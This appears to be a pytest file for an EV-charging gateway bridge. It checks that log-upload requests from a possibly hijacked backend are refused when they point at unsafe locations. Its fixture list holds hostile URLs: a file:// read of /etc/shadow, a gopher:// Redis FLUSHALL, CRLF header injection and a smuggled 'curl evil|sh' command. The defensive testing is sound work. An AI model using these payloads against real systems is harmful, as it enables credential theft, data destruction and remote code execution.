"""Attack B6: a backend, or who has taken it over, sends a station somewhere to upload its logs."""

from datetime import UTC, datetime
from typing import Any

import pytest

from gateway.bridge.books import Books, Json
from gateway.bridge.v16_v16 import V16ToV16
from gateway.bridge.v201_v16 import Settings, V201ToV16
from gateway.session.security import Kind

VERSIONS = ["1.6", "2.0.1"]
PASSWORD = "hunter2"
LOCATIONS = [
    f"file://root:{PASSWORD}@localhost/etc/shadow",
    f"gopher://u:{PASSWORD}@127.0.0.1:6379/_FLUSHALL",
    f"ldap://u:{PASSWORD}@example.com/",
    f"https://u:{PASSWORD}@example.com/\r\nHost: internal",
    f"https://u:{PASSWORD}@example.com/`curl evil|sh`",
    f"https://u:{PASSWORD}@example.com/\x1b]0;owned\x07",
    f"https://u:{PASSWORD}@example.com/{'x' * 100_000}",
    PASSWORD,
]


async def _nothing(*_: Any) -> None: ...


class Station:
    """One station's bridge; a station that would upload to anywhere."""

    def __init__(self, version: str) -> None:
        self.heard: list[tuple[str, Json]] = []
        self.told: list[tuple[str, Json]] = []
        self.events: list[tuple[str, str]] = []
        self.follow_ups: list[Any] = []
        parts: dict[str, Any] = {
            "books": Books(),
            "ledger": None,
            "call_station": self._upload,
            "call_backend": self._hear,
            "note": lambda topic, text: None,
            "report": lambda kind, detail: self.events.append((kind, detail)),
            "clock": lambda: datetime(2026, 5, 1, tzinfo=UTC),
            "save_connector": None,
            "afterwards": self.follow_ups.append,
        }
        self.bridge: V16ToV16 | V201ToV16 = (
            V16ToV16(**parts, security_extension=True)
            if version == "1.6"
            else V201ToV16(**parts, save_page=_nothing, settings=Settings(security_extension=True))
        )

    async def _upload(self, action: str, payload: Json) -> Json:
        self.heard.append((action, payload))
        return {"status": "Accepted", "filename": "log.zip"}

    async def _hear(self, action: str, payload: Json) -> Json:
        self.told.append((action, payload))
        return {}


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize("location", LOCATIONS, ids=range(len(LOCATIONS)))
async def test_a_station_is_sent_nowhere_but_to_a_file_server(version: str, location: str) -> None:
    station = Station(version)
    log = {"logType": "SecurityLog", "requestId": 1, "log": {"remoteLocation": location}}

    assert await station.bridge.from_backend("GetDiagnostics", {"location": location}) == {}
    assert await station.bridge.from_backend("GetLog", log) == {"status": "Rejected"}
    for follow_up in station.follow_ups:
        await follow_up()

    assert station.heard == []
    assert station.told == [("DiagnosticsStatusNotification", {"status": "UploadFailed"})]
    assert [kind for kind, _ in station.events] == [Kind.UNSAFE_LOCATION] * 2
    assert PASSWORD not in str(station.events)


@pytest.mark.parametrize("version", VERSIONS)
async def test_an_honest_place_is_no_event(version: str) -> None:
    station = Station(version)

    await station.bridge.from_backend("GetDiagnostics", {"location": f"ftps://u:{PASSWORD}@files.example.com/in"})

    assert len(station.heard) == 1
    assert station.events == []
